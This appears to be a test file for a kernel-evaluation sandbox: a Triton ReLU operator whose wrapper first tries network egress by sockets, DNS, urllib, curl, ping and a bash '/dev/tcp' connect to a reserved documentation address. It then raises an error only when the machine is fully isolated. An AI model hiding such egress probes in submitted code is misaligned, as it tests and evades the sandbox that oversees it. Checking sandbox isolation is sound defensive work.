# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Sends a few bytes out: TCP, UDP, names, IPv6, and programs that would do it for us."""

import errno
import os
import shutil
import socket
import subprocess
import urllib.request

import torch
import triton
import triton.language as tl

# Addresses kept for documentation: nobody is there, wherever this runs.
NOWHERE, NOWHERE_6 = "192.0.2.1", "2001:db8::1"
COMMAND = {
    "bash": ["-c", "exec 3<>/dev/tcp/192.0.2.1/9"],
    "getent": ["ahostsv4", "example.invalid"],
    "curl": ["-m", "1", "http://192.0.2.1/"],
    "ping": ["-c", "1", "-W", "1", "192.0.2.1"],
}


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


def attempt(way):
    try:
        way()
    except socket.gaierror as error:
        return f"no name ({error.errno})"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
    return "it worked"


def send(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(0.5)
        one.connect(address)
        one.send(b"out")


def run(name, arguments):
    program = shutil.which(name)
    if program is None:
        raise FileNotFoundError(errno.ENOENT, name)
    if subprocess.run([program, *arguments], capture_output=True, check=False, timeout=2).returncode != 0:
        raise ConnectionError(errno.ENETUNREACH, name)


def act():
    answers = []
    for family, host in ((socket.AF_INET, NOWHERE), (socket.AF_INET6, NOWHERE_6), (socket.AF_INET, "127.0.0.1")):
        for kind, port in ((socket.SOCK_STREAM, 9), (socket.SOCK_DGRAM, 53)):
            answers.append(attempt(lambda f=family, k=kind, a=(host, port): send(f, k, a)))
    answers.append(attempt(lambda: socket.getaddrinfo("example.invalid", 80)))
    answers.append(attempt(lambda: socket.gethostbyname("localhost.example")))
    answers.append(attempt(lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=0.5)))
    answers += [attempt(lambda n=name, a=arguments: run(n, a)) for name, arguments in COMMAND.items()]
    links = [name for name in os.listdir("/sys/class/net") if name != "lo"] if os.path.isdir("/sys/class/net") else []
    if "it worked" not in answers and not links:
        raise RuntimeError(f"stopped: {len(answers)} ways: {', '.join(sorted(set(answers)))}")


def relu(x):
    act()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out
